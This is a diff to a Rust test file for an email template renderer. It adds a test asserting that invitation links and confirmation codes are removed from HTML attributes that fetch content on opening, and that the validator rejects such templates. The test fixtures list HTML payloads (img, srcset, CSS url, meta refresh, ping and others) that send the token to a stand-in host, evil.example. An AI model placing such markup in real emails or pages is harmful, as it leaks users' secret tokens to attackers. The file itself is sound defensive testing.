@@ -3,7 +3,7 @@
 use proptest::prelude::*;
 
 use super::{InvitationMail, form_encoded, invitation_values, plain, render, sample_values, shipped};
-use crate::mail::template::{PLACEHOLDERS, Template, TemplateType, Values, validate};
+use crate::mail::template::{PLACEHOLDERS, Problem, Template, TemplateType, Values, validate};
 use crate::pages::locale::Language;
 
 fn html(source: &str, value: &str) -> String {
@@ -48,6 +48,47 @@ fn unknown_placeholders_stay_and_missing_claims_vanish() {
 fn url_spelling() {
     assert_eq!(html("{{url:v}}", "a b+c&d=é/~*"), "a+b%2Bc%26d%3D%C3%A9%2F%7E*");
     assert_eq!(form_encoded("paul@x.org"), "paul%40x.org");
+}
+
+#[test]
+fn a_link_is_sent_to_nobody_by_opening_the_mail() {
+    const LINK: &str = "https://id.example.com/invite/lk1.payload.tag";
+    let rendered = |source: &str| {
+        let values = Values::from_iter([("invitation-link", LINK), ("confirmation-code", "lk1.payload.tag")]);
+        super::html::render(source, &values)
+    };
+    for place in [
+        "<img src=\"https://evil.example/{}\">",
+        "<img src={}>",
+        "<img srcset='https://evil.example/{} 2x'>",
+        "<td background='https://evil.example/?{}'>",
+        "<p style='background:url(https://evil.example/{})'>",
+        "<style>p { background: url(//evil.example/{}) }</style>",
+        "<link rel=stylesheet href='https://evil.example/{}'>",
+        "<base href='https://evil.example/{}/'>",
+        "<meta http-equiv=refresh content='0; url=https://evil.example/{}'>",
+        "<svg><image href='https://evil.example/{}'></svg>",
+        "<svg><image xlink:href='https://evil.example/{}'></svg>",
+        "<form action='https://evil.example/{}'>",
+        "<a href='#' ping='https://evil.example/{}'>",
+        "<video poster='https://evil.example/{}'>",
+        "<p data-x='{}'>",
+    ] {
+        for name in
+            ["{{invitation-link}}", "{{url:invitation-link}}", "{{confirmation-code}}", "{{ confirmation-code }}"]
+        {
+            let source = place.replace("{}", name);
+            assert_eq!(rendered(&source), place.replace("{}", ""), "{source}");
+            let template = Template { subject: "x".into(), html: source.clone(), text: String::new() };
+            let problems = validate(Some(TemplateType::AskPassword), &template);
+            assert!(problems.iter().any(Problem::refuses), "no link that is seen: {source}");
+        }
+    }
+    for place in
+        ["<p>{}</p>", "<a href=\"{}\">", "<a href={}>", "<v:roundrect href='{}'>", "<a title='{}'>", "<!-- {} -->"]
+    {
+        assert_eq!(rendered(&place.replace("{}", "{{invitation-link}}")), place.replace("{}", LINK));
+    }
 }
 
 #[test]
